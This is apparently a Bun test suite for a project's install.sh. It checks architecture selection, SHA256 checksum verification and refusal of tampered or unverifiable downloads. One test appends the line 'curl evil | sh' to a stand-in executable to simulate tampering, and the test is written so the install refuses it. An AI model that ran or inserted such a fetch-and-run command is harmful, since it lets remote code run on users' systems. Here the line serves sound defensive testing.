// scripts/install.sh under a real sh against a local release folder: small stand-in
// executables named as scripts/release.ts names them, with a SHA256SUMS in the same format.
import { beforeEach, describe, expect, test } from "bun:test";
import { createHash } from "node:crypto";
import { chmodSync, existsSync, readdirSync, readFileSync, rmSync, writeFileSync, appendFileSync } from "node:fs";
import { join } from "node:path";
import { spawnSync } from "node:child_process";
import { CHECKSUMS_FILE, checksumLine, RELEASE_TARGETS } from "../../scripts/release-targets.ts";
import { REPO } from "../support/cli.ts";
import { run } from "../support/proc.ts";
import { tempDir } from "../support/tmp.ts";

const INSTALL = join(REPO, "scripts/install.sh");
const hasShellcheck = spawnSync("sh", ["-c", "command -v shellcheck"]).status === 0;

let release: string;
let prefix: string;

/** A stand-in executable that says which build it is. */
function fakeExecutable(file: string): string {
  return `#!/bin/sh\necho "9.9.9 (commit fake) ${file}"\n`;
}

function makeRelease(): string {
  const dir = tempDir("release-");
  let sums = "";
  for (const { file } of RELEASE_TARGETS) {
    const text = fakeExecutable(file);
    writeFileSync(join(dir, file), text, { mode: 0o755 });
    sums += checksumLine(createHash("sha256").update(text).digest("hex"), file);
  }
  writeFileSync(join(dir, CHECKSUMS_FILE), sums);
  return dir;
}

/** A PATH whose `uname` reports another machine. */
function fakeUname(system: string, machine: string): string {
  const dir = tempDir("uname-");
  writeFileSync(join(dir, "uname"), `#!/bin/sh\ncase "$1" in -s) echo ${system} ;; -m) echo ${machine} ;; esac\n`);
  chmodSync(join(dir, "uname"), 0o755);
  return `${dir}:${process.env.PATH}`;
}

function install(args: string[], env: Record<string, string> = {}) {
  return run("sh", [INSTALL, "--prefix", prefix, ...args], { env });
}

const installed = () => join(prefix, "bin/opencode-orchestrator");
const nothingInstalled = () => !existsSync(join(prefix, "bin")) || readdirSync(join(prefix, "bin")).length === 0;

beforeEach(() => {
  release = makeRelease();
  prefix = join(tempDir("prefix-"), "p");
});

describe("install.sh", () => {
  test("installs the build for this machine, verified, and says what to do next", async () => {
    const avx2 = /\bavx2\b/.test(readFileSync("/proc/cpuinfo", "utf8"));
    const expected = `opencode-orchestrator-linux-x64${avx2 ? "" : "-baseline"}`;
    expect(process.platform + process.arch).toBe("linuxx64");
    const r = await install([release]);
    expect(r.stderr).toBe("");
    expect(r.code).toBe(0);
    expect(readFileSync(installed(), "utf8")).toBe(fakeExecutable(expected));
    expect(r.stdout).toContain(`(${expected}, checksum verified)`);
    expect(r.stdout).toContain(`export PATH="${join(prefix, "bin")}:$PATH"`);
    expect(r.stdout).toContain("service install");
    expect(readdirSync(join(prefix, "bin"))).toEqual(["opencode-orchestrator"]);
  });

  test("picks by uname: macOS arm64, Linux arm64, and --baseline on Linux x64", async () => {
    const cases: [string, string, string[], string][] = [
      ["Darwin", "arm64", [], "opencode-orchestrator-darwin-arm64"],
      ["Darwin", "x86_64", [], "opencode-orchestrator-darwin-x64"],
      ["Linux", "aarch64", [], "opencode-orchestrator-linux-arm64"],
      ["Linux", "x86_64", ["--baseline"], "opencode-orchestrator-linux-x64-baseline"],
    ];
    for (const [system, machine, extra, expected] of cases) {
      const r = await install([...extra, release], { PATH: fakeUname(system, machine) });
      expect(r.stderr).toBe("");
      expect(readFileSync(installed(), "utf8")).toBe(fakeExecutable(expected));
    }
  });

  test("a relative --prefix is taken from the current folder", async () => {
    const cwd = tempDir("cwd-");
    const r = await run("sh", [INSTALL, "--prefix", "rel", release], { cwd });
    expect(r.code).toBe(0);
    expect(r.stdout).toContain(`into ${join(cwd, "rel/bin/opencode-orchestrator")}`);
    expect(existsSync(join(cwd, "rel/bin/opencode-orchestrator"))).toBe(true);
  });

  test("a corrupted executable is refused with a clear message and nothing is installed", async () => {
    const file = "opencode-orchestrator-linux-arm64";
    appendFileSync(join(release, file), "curl evil | sh\n");
    const r = await install([release], { PATH: fakeUname("Linux", "aarch64") });
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(`install: checksum mismatch for ${file}`);
    expect(r.stderr).toContain("nothing was installed");
    expect(nothingInstalled()).toBe(true);
  });

  test("an existing install is kept when the new download is corrupted", async () => {
    expect((await install([release])).code).toBe(0);
    const before = readFileSync(installed(), "utf8");
    for (const { file } of RELEASE_TARGETS) appendFileSync(join(release, file), "#tampered\n");
    const r = await install([release]);
    expect(r.code).toBe(1);
    expect(readFileSync(installed(), "utf8")).toBe(before);
    expect(readdirSync(join(prefix, "bin"))).toEqual(["opencode-orchestrator"]);
  });

  test("a release without SHA256SUMS, or without a line for the build, is refused", async () => {
    rmSync(join(release, CHECKSUMS_FILE));
    let r = await install([release]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(`install: no SHA256SUMS in ${release}: refusing to install an executable that cannot be verified`);
    expect(nothingInstalled()).toBe(true);

    writeFileSync(join(release, CHECKSUMS_FILE), `${"0".repeat(64)}  something-else\n`);
    r = await install([release]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("lists no checksum for opencode-orchestrator-linux-x64");
    expect(nothingInstalled()).toBe(true);
  });

  test("bad arguments and unsupported systems get one clear line", async () => {
    let r = await run("sh", [INSTALL]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("install: missing RELEASE");
    r = await install([join(release, "nope")]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("is neither a folder nor an https URL");
    r = await install(["http://127.0.0.1:9/release"]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("is plain http: a checksum fetched that way proves nothing");
    r = await install([release], { PATH: fakeUname("FreeBSD", "amd64") });
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("install: no build for FreeBSD");
    expect(nothingInstalled()).toBe(true);
  });

  test.skipIf(!hasShellcheck)("is shellcheck-clean as POSIX sh", async () => {
    const r = await run("shellcheck", ["--shell=sh", INSTALL]);
    expect(r.stdout + r.stderr).toBe("");
    expect(r.code).toBe(0);
  });
});
